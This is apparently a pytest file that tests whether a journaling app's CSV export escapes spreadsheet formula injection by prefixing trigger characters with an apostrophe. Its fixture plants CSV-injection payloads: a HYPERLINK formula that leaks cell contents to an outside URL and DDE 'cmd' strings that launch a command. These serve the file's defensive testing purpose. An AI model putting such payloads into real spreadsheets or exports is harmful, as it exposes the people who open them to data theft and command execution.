"""The check-ins CSV read back as a spreadsheet would: no cell, header included, starts with a
formula trigger (= + - @, tab, carriage return); such text gets a leading apostrophe (the OWASP
advice) and is otherwise exactly what the person wrote, and every other cell is unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from change_journal import accounts, export, importer
from change_journal.store import changes, checkins
from change_journal.store.checkins import AnswerIn

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLANTED = {
    "checkin.how_going": '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
    "checkin.note": "+cmd|' /C calc'!A0",
    "checkin.importance.why_not_lower": "-2+3",
    "checkin.confidence.why_not_lower": "@SUM(1+1)*cmd|' /C calc'!A0",
    "checkin.readiness.why_not_lower": "\t=1+1",
    "checkin.readiness.zero": "\r=1+1",
}
TITLE = "=1+1 Walk"


def cells(raw: bytes) -> list[list[str]]:
    """The CSV as a spreadsheet program reads it."""
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def planted(db):
    """A person whose change name and every check-in answer start with a formula trigger."""
    user_id = accounts.sign_up(db, "river", "a long enough password").id
    change_id = changes.add_change(db, user_id, TITLE)
    checkins.save_checkin(db, user_id, change_id, {"importance": 7, "confidence": 5, "readiness": 0},
                          [AnswerIn(prompt, "A question?", text) for prompt, text in PLANTED.items()])
    return db, user_id


def test_no_cell_of_the_checkins_csv_starts_with_a_formula_trigger(planted):
    db, user_id = planted
    table = cells(export.export_csv(db, user_id))
    assert len(table) == 2
    assert not [cell for row in table for cell in row if cell.startswith(TRIGGERS)]


def test_planted_text_keeps_its_words_behind_one_apostrophe(planted):
    db, user_id = planted
    header, row = cells(export.export_csv(db, user_id))
    by_column = dict(zip(header, row, strict=True))
    assert by_column["change"] == "'" + TITLE
    for prompt, text in PLANTED.items():
        assert by_column[prompt.removeprefix("checkin.").replace(".", "_")] == "'" + text


def test_numbers_ids_times_and_ordinary_text_are_written_unchanged(db):
    user_id = accounts.sign_up(db, "river", "a long enough password").id
    change_id = changes.add_change(db, user_id, "Walk - most days")
    checkins.save_checkin(db, user_id, change_id, {"importance": 0, "confidence": 10, "readiness": 5},
                          [AnswerIn("checkin.note", "Anything else?", "1 + 1 = 2, 'quoted'")])
    header, row = cells(export.export_csv(db, user_id))
    by_column = dict(zip(header, row, strict=True))
    assert (by_column["importance"], by_column["confidence"], by_column["readiness"]) \
        == ("0", "10", "5")
    assert by_column["change"] == "Walk - most days"
    assert by_column["note"] == "1 + 1 = 2, 'quoted'"
    assert by_column["created_at"].endswith("+00:00") and not by_column["checkin_id"].startswith("'")


def test_a_column_named_after_an_imported_prompt_cannot_carry_a_formula(db):
    user_id = accounts.sign_up(db, "river", "a long enough password").id
    stamp = "2026-05-01T09:30:00+00:00"
    document = {
        "format": "change-journal-export", "format_version": 1,
        "changes": [{"id": "-c1", "title": "Walk", "created_at": stamp, "checkins": [
            {"id": "@k1", "created_at": stamp, "importance": 6, "confidence": 4, "readiness": 5,
             "answers": [{"id": "a1", "prompt_id": "checkin.=2+5", "question": "?",
                          "text": "Fine.", "created_at": stamp}]}]}],
    }
    importer.import_journal(db, user_id, importer.read_export(json.dumps(document).encode()))
    header, row = cells(export.export_csv(db, user_id))
    assert "'=2+5" in header and row[:2] == ["'@k1", "'-c1"]
    assert not [cell for cell in header + row if cell.startswith(TRIGGERS)]
